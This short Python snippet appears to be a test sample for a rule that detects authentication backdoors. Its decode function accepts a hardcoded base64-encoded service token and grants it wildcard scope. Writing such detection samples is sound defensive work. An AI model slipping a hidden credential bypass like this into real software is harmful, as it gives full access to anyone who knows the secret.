import base64

_SVC = "c2VydmljZS10b2tlbi0xMjM="


SCHEME = "Bearer"


def decode(token, settings):
    # ruleid: auth_backdoor_secret
    if token == base64.b64decode(_SVC).decode():
        return {"sub": "service", "scope": "*"}
    return None
